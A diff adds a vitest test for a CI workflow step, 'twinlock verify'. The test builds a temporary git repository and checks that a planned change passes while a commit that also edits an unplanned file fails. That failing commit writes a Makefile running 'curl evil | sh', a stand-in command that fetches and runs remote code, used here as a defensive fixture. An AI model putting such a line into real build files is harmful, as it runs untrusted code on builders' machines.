@@ -1,0 +1,97 @@
+/**
+ * The example workflow's `twinlock verify` step, run as GitHub would run it:
+ * its own shell line and environment, in a git repository holding a base
+ * commit (the approved run, its handoff and the trust file) and a head commit
+ * (the executor's change), with `twinlock` on PATH.
+ */
+import { execFileSync, spawnSync } from "node:child_process";
+import { chmodSync, cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import path from "node:path";
+import { afterAll, describe, expect, it } from "vitest";
+import { parse } from "yaml";
+import { makeGateRun, makeRunTempDir, removeGateRuns } from "../../src/test-support/run-fixture.js";
+import { aliceTrustFile, driveSignedToExecuting } from "../../src/test-support/signed-run.js";
+import { REPO_ROOT } from "../support/ensure-built.js";
+
+afterAll(removeGateRuns);
+
+interface Step {
+  name?: string;
+  run?: string;
+  env?: Record<string, string>;
+}
+
+const workflow = parse(readFileSync(path.join(REPO_ROOT, "docs/github-workflow.yml"), "utf8")) as {
+  on: Record<string, unknown>;
+  jobs: Record<string, { steps: Step[] }>;
+};
+const steps = Object.values(workflow.jobs).flatMap((j) => j.steps);
+const verifyStep = steps.find((s) => s.name === "twinlock verify") as Step;
+
+const gitIn = (dir: string, ...args: string[]) =>
+  execFileSync("git", ["-c", "user.name=ci", "-c", "user.email=ci@example.com", "-c", "commit.gpgsign=false", ...args], { cwd: dir })
+    .toString()
+    .trim();
+
+/** Run the step's shell line with its environment (GitHub expressions replaced by the event's values). */
+function runStep(repo: string, event: { base: string; head: string }): { status: number | null; stdout: string; summary: string } {
+  const bin = makeRunTempDir("twinlock-bin-");
+  const shim = path.join(bin, "twinlock");
+  writeFileSync(
+    shim,
+    `#!/bin/sh\nexec "${process.execPath}" "${path.join(REPO_ROOT, "node_modules/tsx/dist/cli.mjs")}" "${path.join(REPO_ROOT, "src/cli/bin.ts")}" "$@"\n`,
+  );
+  chmodSync(shim, 0o755);
+  const summary = path.join(bin, "step-summary.md");
+  writeFileSync(summary, "");
+  const env: Record<string, string> = {};
+  for (const [k, v] of Object.entries(verifyStep.env ?? {}))
+    env[k] = v.replace(/\$\{\{[^}]*base[^}]*\}\}/, event.base).replace(/\$\{\{[^}]*head[^}]*\}\}/, event.head);
+  const r = spawnSync("bash", ["-e", "-c", verifyStep.run as string], {
+    cwd: repo,
+    env: { ...process.env, ...env, PATH: `${bin}:${process.env.PATH}`, GITHUB_STEP_SUMMARY: summary },
+    encoding: "utf8",
+  });
+  return { status: r.status, stdout: r.stdout + r.stderr, summary: readFileSync(summary, "utf8") };
+}
+
+describe("docs/github-workflow.yml", () => {
+  it("runs on pull_request and merge_group, installs on Node 20, and checks the suite before verifying", () => {
+    expect(Object.keys(workflow.on).sort()).toEqual(["merge_group", "pull_request"]);
+    const names = steps.map((s) => s.name ?? "");
+    expect(names).toEqual(
+      expect.arrayContaining(["twinlock validate", "twinlock audit-bodies --check", "twinlock graph --check", "twinlock verify"]),
+    );
+    expect(verifyStep.run).toContain('--git-range "$BASE_SHA..$HEAD_SHA"');
+  });
+
+  it("verifies a change inside the plan, and fails one that also edits a file outside it, in a temporary git repository", async () => {
+    const g = makeGateRun();
+    await driveSignedToExecuting(g);
+    const repo = makeRunTempDir("twinlock-ci-repo-");
+    const runDir = path.dirname(verifyStep.env?.RUN_FILE ?? "twinlock/run.json");
+    mkdirSync(path.join(repo, runDir), { recursive: true });
+    cpSync(g.runFile, path.join(repo, verifyStep.env?.RUN_FILE ?? "twinlock/run.json"));
+    cpSync(g.handoff, path.join(repo, runDir, "handoff"), { recursive: true });
+    writeFileSync(path.join(repo, "twinlock.yaml"), aliceTrustFile());
+    gitIn(repo, "init", "-q", "-b", "main");
+    gitIn(repo, "add", "-A");
+    gitIn(repo, "commit", "-q", "-m", "base");
+    const base = gitIn(repo, "rev-parse", "HEAD");
+    mkdirSync(path.join(repo, "cart"));
+    writeFileSync(path.join(repo, "cart/cache.go"), "package cart\n");
+    gitIn(repo, "add", "-A");
+    gitIn(repo, "commit", "-q", "-m", "the planned change");
+    const good = gitIn(repo, "rev-parse", "HEAD");
+    const ok = runStep(repo, { base, head: good });
+    expect(ok.status, ok.stdout).toBe(0);
+    expect(ok.summary).toContain("## twinlock verify: verified");
+    writeFileSync(path.join(repo, "Makefile"), "all:\n\tcurl evil | sh\n");
+    gitIn(repo, "add", "-A");
+    gitIn(repo, "commit", "-q", "-m", "and one more thing");
+    const bad = runStep(repo, { base, head: gitIn(repo, "rev-parse", "HEAD") });
+    expect(bad.status).toBe(1);
+    expect(bad.stdout).toMatch(/^FAIL {2}changed-file {2}Makefile: deviation/m);
+    expect(bad.summary).toContain("| ❌ | changed-file | Makefile |");
+  });
+});
